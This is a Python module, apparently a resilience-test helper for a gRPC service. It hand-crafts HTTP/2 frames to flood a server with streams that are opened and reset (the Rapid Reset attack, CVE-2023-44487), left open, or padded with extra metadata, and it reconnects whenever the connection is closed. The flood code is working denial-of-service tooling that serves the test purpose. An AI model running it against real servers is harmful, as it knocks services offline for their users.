"""Peers with a certificate that send HTTP/2 frames as fast as the wire takes them: streams that are opened and reset
(CVE-2023-44487), or left open, or whatever else.
Frames by hand: no client library sends them so. Source: RFC 9113, section 4.1; RFC 7541, section 6."""

import contextlib
import itertools
import os
import pathlib
import select
import socket
import ssl
import struct
import threading

from .client import address, find_method

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
STREAMS_AT_ONCE = 2000


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value, prefix):
    """A header field with a literal name; `prefix` 0x40 puts it into the dynamic table, 0 does not."""
    text = b"".join(bytes([len(part)]) + part for part in (name.encode(), value.encode()))
    assert max(len(name), len(value)) < 127
    return bytes([prefix]) + text


def fields(path):
    return ((":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"),
            ("te", "trailers"), ("content-type", "application/grpc"))


# Of the dynamic table, newest first; the static one has 61 entries.
def headers_first(path):
    return b"".join(literal(name, value, 0x40) for name, value in fields(path))


def headers_again(path):
    count = len(fields(path))
    return bytes(0x80 | (61 + count - i) for i in range(count))


def connect(target, identity="gateway"):
    folder = pathlib.Path(os.environ["DALER_CERT_DIR"]) / identity
    context = ssl.create_default_context(cafile=str(folder / "ca.crt"))
    context.load_cert_chain(str(folder / "tls.crt"), str(folder / "tls.key"))
    context.check_hostname = False
    context.set_alpn_protocols(["h2"])
    host, port = address(target).split(":")
    connection = context.wrap_socket(socket.create_connection((host, int(port)), 10))
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    return connection


class Flood:
    """A peer who sends `first` and then the same frames without end, and comes again when its connection is closed; reads what
    comes, as one that wants to stay would."""

    def __init__(self, target, first=b"", again=b"", identity="gateway"):
        self.target, self.identity = target, identity
        self.first, self.again = first, again
        self.sent = 0
        self.closed = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _chunks(self):
        yield self.first
        yield from itertools.repeat(self.again * STREAMS_AT_ONCE)

    def _run(self):
        while not self._stop.is_set():
            with contextlib.suppress(OSError, ValueError):
                with connect(self.target, self.identity) as connection:
                    self._flood(connection)
            self.closed += not self._stop.is_set()

    def _flood(self, connection):
        """One thread for both directions: a session of OpenSSL's is no two threads' at once."""
        connection.setblocking(False)
        for chunk in self._chunks():
            while chunk and not self._stop.is_set():
                chunk = chunk[self._send(connection, chunk):]
            if self._stop.is_set():
                break
            self.sent += STREAMS_AT_ONCE

    @staticmethod
    def _send(connection, chunk):
        """How much of it went."""
        with contextlib.suppress(ssl.SSLWantReadError):
            if not connection.recv(1 << 16):
                raise ConnectionResetError
        try:
            return connection.send(chunk[:1 << 16])
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            select.select([connection], [connection], [], 1)
            return 0

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        self._thread.join(20)


class Storm(Flood):
    """After what comes first it opens streams and resets them, or lets them stand, with so much more of metadata."""

    def __init__(self, target, method, message=None, identity="gateway", resets=True, more=b"", first=b""):
        super().__init__(target, first, identity=identity)
        self.resets, self.more = resets, more
        self.path = find_method(target, method)[0]
        self.message = message

    def _streams(self):
        for number in itertools.count(1, 2):
            block = headers_first(self.path) if number == 1 else headers_again(self.path)
            parts = [frame(HEADERS, END_HEADERS, number, block + self.more)]
            if self.message is not None:
                body = b"\0" + struct.pack(">I", len(self.message)) + self.message
                parts.append(frame(DATA, END_STREAM, number, body))
            if self.resets:
                parts.append(frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL)))
            yield b"".join(parts)

    def _chunks(self):
        streams = self._streams()
        yield self.first
        while True:
            yield b"".join(itertools.islice(streams, STREAMS_AT_ONCE))
